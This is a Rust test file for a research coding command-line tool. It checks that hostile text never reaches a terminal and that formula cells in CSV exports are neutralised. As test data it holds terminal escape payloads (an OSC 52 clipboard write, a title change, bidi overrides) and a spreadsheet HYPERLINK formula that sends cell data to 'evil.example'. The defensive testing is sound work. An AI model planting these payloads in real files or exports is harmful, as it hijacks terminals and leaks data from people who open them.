//! Untrusted text against the programs that interpret it (issue 14): the terminal and the
//! spreadsheet. Speaker names, file names, attribute values, code names and CSV values carry
//! OSC 52 (write the clipboard), OSC 0 (set the title), a C1 CSI and bidi controls; every
//! command that shows them is run on a real pseudo-terminal and through a pipe, and no control
//! character or bidi control may come out, except as data when stdout is redirected.

mod common;

use common::TempStudy;
use std::io::Read;
use std::path::Path;
use std::process::Command;

const OSC52: &str = "\x1b]52;c;ZXZpbA==\x07";
const OSC0: &str = "\x1b]0;pwned\x07";
const C1: &str = "\u{9b}31m";
const RLO: &str = "\u{202E}";
const ALM: &str = "\u{061C}";

/// Would a terminal act on this? (Newline, tab and CR-before-LF are layout.)
fn unsafe_chars(out: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(out)
        .replace("\r\n", "\n")
        .chars()
        .filter(|&c| {
            c != '\n'
                && c != '\t'
                && (c.is_control()
                    || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
        })
        .collect()
}

fn binary() -> std::path::PathBuf {
    assert_cmd::cargo::cargo_bin("thematic")
}

fn base(s: &TempStudy) -> Command {
    let mut cmd = Command::new(binary());
    cmd.env("THEMATIC_DATA_DIR", s.dir.path().join("data"))
        .env_remove("THEMATIC_PROJECT")
        .env_remove("THEMATIC_CODER")
        .arg("--project")
        .arg(&s.path)
        .args(["--coder", "alex"]);
    cmd
}

/// Runs the command with stdout and stderr on a new pseudo-terminal; returns what the terminal
/// received. None where no pty can be opened.
fn on_terminal(mut cmd: Command) -> Option<(bool, Vec<u8>)> {
    use std::os::fd::FromRawFd;
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty fills the two descriptors; the name, termios and size may be null.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    if rc != 0 {
        return None;
    }
    // SAFETY: both descriptors were just returned by openpty and are owned here.
    let (mut master, slave) = unsafe {
        (
            std::fs::File::from_raw_fd(master),
            std::fs::File::from_raw_fd(slave),
        )
    };
    cmd.stdout(slave.try_clone().unwrap()).stderr(slave);
    let mut child = cmd.spawn().unwrap();
    drop(cmd); // closes the parent's copies of the slave, so the master sees the end
    let reader = std::thread::spawn(move || {
        let mut all = Vec::new();
        let mut buf = [0u8; 4096];
        // Linux reports EIO on the master once every slave descriptor is closed.
        while let Ok(n) = master.read(&mut buf) {
            if n == 0 {
                break;
            }
            all.extend_from_slice(&buf[..n]);
        }
        all
    });
    let ok = child.wait().unwrap().success();
    Some((ok, reader.join().unwrap()))
}

fn piped(mut cmd: Command) -> std::process::Output {
    cmd.output().unwrap()
}

fn vtt(voice: &str) -> String {
    let mut t = String::from("WEBVTT\n\n");
    for i in 0..80 {
        // Few enough control characters that the file is text, not binary data.
        let who = match i {
            0 | 2 => voice,
            i if i % 2 == 0 => "Ana",
            _ => "Ben",
        };
        t.push_str(&format!(
            "00:00:{:02}.000 --> 00:00:{:02}.500\n<v {who}>line {i} about the portal and the nurse {RLO}here{ALM}.\n\n",
            i % 60,
            i % 60
        ));
    }
    t
}

/// A study holding every kind of hostile text the issue lists.
fn hostile_study() -> (TempStudy, String) {
    let s = TempStudy::new();
    let doc = format!("fg{OSC0}x");
    let file = s.write(&format!("{doc}.vtt"), vtt(&format!("Ana{OSC52}{C1}")));
    let plain = s.write("plain.vtt", vtt("Cleo"));
    let out = piped({
        let mut c = base(&s);
        c.arg("import").arg(&file).arg(&plain);
        c
    });
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let attrs = s.write(
        "documents.csv",
        format!("document,composition\nplain,mixed{OSC52}\n{doc},all{RLO}female\n"),
    );
    let out = piped({
        let mut c = base(&s);
        c.arg("import-attributes").arg(&attrs);
        c
    });
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    (s, doc)
}

fn commands(doc: &str, dir: &Path) -> Vec<(&'static str, Vec<String>)> {
    let bad = dir.join("bad_codings.csv");
    std::fs::write(
        &bad,
        format!("document,coder,code,start,end\nnope{OSC52},alex,Trust,0,5\n"),
    )
    .unwrap();
    let code = format!("Trust{RLO}tsurT");
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    vec![
        ("codes add (U+202E)", s(&["codes", "add", &code])),
        ("code (U+202E)", s(&["code", doc, &code, "--turn", "1"])),
        ("code plain", s(&["code", "plain", &code, "--turn", "2"])),
        ("codes list", s(&["codes", "list"])),
        ("show (file-name document, VTT voices)", s(&["show", doc])),
        ("show --format json", s(&["show", doc, "--format", "json"])),
        ("docs", s(&["docs"])),
        ("summary", s(&["summary"])),
        (
            "frequencies --by speaker",
            s(&["frequencies", "--by", "speaker"]),
        ),
        (
            "frequencies --by speaker --format csv",
            s(&["frequencies", "--by", "speaker", "--format", "csv"]),
        ),
        (
            "frequencies --by ATTR",
            s(&["frequencies", "--by", "composition"]),
        ),
        (
            "export matrix to stdout",
            s(&["export", "matrix", "-", "--attribute", "composition"]),
        ),
        (
            "error echoing a bad CSV value",
            vec!["import-codings".into(), bad.display().to_string()],
        ),
        ("history", s(&["history"])),
    ]
}

#[test]
fn no_escape_sequence_reaches_a_terminal() {
    let (s, doc) = hostile_study();
    let mut failures = Vec::new();
    let mut tested = 0;
    for (name, args) in commands(&doc, s.dir.path()) {
        let mut cmd = base(&s);
        cmd.args(&args);
        let Some((_, out)) = on_terminal(cmd) else {
            eprintln!("SKIP no_escape_sequence_reaches_a_terminal: cannot open a pseudo-terminal");
            return;
        };
        tested += 1;
        let bad = unsafe_chars(&out);
        if !bad.is_empty() {
            failures.push(format!(
                "{name}: {bad:?} in {:?}",
                String::from_utf8_lossy(&out)
            ));
        }
        if out.is_empty() {
            failures.push(format!("{name}: printed nothing"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(tested, 14);
}

/// Redirected, tables and errors are still clean; JSON escapes; data (CSV, an export to `-`)
/// is the researcher's text and arrives unchanged.
#[test]
fn redirected_output_is_clean_text_or_unchanged_data() {
    let (s, doc) = hostile_study();
    for (name, args) in commands(&doc, s.dir.path()) {
        let mut cmd = base(&s);
        cmd.args(&args);
        let out = piped(cmd);
        let data = name.contains("--format csv") || name.contains("export matrix");
        let stderr = unsafe_chars(&out.stderr);
        assert!(stderr.is_empty(), "{name}: stderr has {stderr:?}");
        if !data {
            let stdout = unsafe_chars(&out.stdout);
            assert!(stdout.is_empty(), "{name}: stdout has {stdout:?}");
        }
        if name.contains("json") {
            let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert!(v.to_string().contains("Ana"), "{name}");
            let text = String::from_utf8_lossy(&out.stdout);
            assert!(
                text.contains("\\u001b") || text.contains("\\u009B"),
                "{name}: {text}"
            );
        }
    }
    // The matrix on stdout is byte for byte the matrix written to a file.
    let file = s.dir.path().join("m.csv");
    let mut to_file = base(&s);
    to_file
        .args(["export", "matrix"])
        .arg(&file)
        .args(["--attribute", "composition"]);
    assert!(piped(to_file).status.success());
    let mut to_stdout = base(&s);
    to_stdout.args(["export", "matrix", "-", "--attribute", "composition"]);
    let out = piped(to_stdout);
    assert!(out.status.success());
    assert_eq!(out.stdout, std::fs::read(&file).unwrap());
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(OSC52),
        "data keeps its text when redirected"
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("exported"),
        "the note goes to stderr, not into the data"
    );
}

/// A quote that is a formula must not run when a colleague opens an export in a spreadsheet.
#[test]
fn csv_cells_that_are_formulas_are_neutralised() {
    let s = TempStudy::new();
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let mut t = String::new();
    for i in 0..5 {
        t.push_str(&format!(
            "Ana: {payload}\nBen: -1+1 and @SUM(A1) number {i}\n"
        ));
    }
    let f = s.write("fg.txt", t);
    s.cmd().arg("import").arg(&f).assert().success();
    s.cmd().args(["codes", "add", "+Risky"]).assert().success();
    s.cmd()
        .args(["code", "fg", "+Risky", "--turn", "1"])
        .assert()
        .success();
    s.cmd()
        .args(["code", "fg", "+Risky", "--turn", "2"])
        .assert()
        .success();
    let attrs = s.write("documents.csv", "document,composition\nfg,@mixed\n");
    s.cmd()
        .arg("import-attributes")
        .arg(&attrs)
        .assert()
        .success();
    let dir = s.dir.path();
    let read = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap();
    s.cmd()
        .args(["export", "excerpts"])
        .arg(dir.join("x.csv"))
        .assert()
        .success();
    s.cmd()
        .args(["export", "codebook"])
        .arg(dir.join("c.csv"))
        .assert()
        .success();
    s.cmd()
        .args(["export", "matrix"])
        .arg(dir.join("m.csv"))
        .args(["--attribute", "composition"])
        .assert()
        .success();
    let listed = s
        .cmd()
        .args(["codes", "list", "--format", "csv"])
        .output()
        .unwrap();
    for (what, text) in [
        ("excerpts", read("x.csv")),
        ("codebook", read("c.csv")),
        ("matrix", read("m.csv")),
        (
            "codes list --format csv",
            String::from_utf8(listed.stdout).unwrap(),
        ),
    ] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let mut quoted = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let first = cell.chars().next();
                let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    || (first == Some('-') && cell.parse::<f64>().is_err());
                assert!(!formula, "{what}: formula cell {cell:?}");
                quoted += cell.starts_with("'=") as usize
                    + cell.starts_with("'+") as usize
                    + cell.starts_with("'@") as usize
                    + cell.starts_with("'-") as usize;
            }
        }
        assert!(quoted > 0, "{what}: no neutralised cell in {text}");
    }
    // --raw-cells: as they are, for programs.
    s.cmd()
        .args(["--raw-cells", "export", "excerpts"])
        .arg(dir.join("raw.csv"))
        .assert()
        .success();
    assert!(read("raw.csv").contains(&format!("\"{}", &payload[..10])));
    // The codebook CSV reads back with its names as they were.
    let t2 = TempStudy::new();
    t2.cmd()
        .arg("import-codebook")
        .arg(dir.join("c.csv"))
        .assert()
        .success();
    let codes = t2.json(&["codes", "list", "--format", "json"]);
    assert_eq!(codes[0]["name"], "+Risky", "{codes}");
}
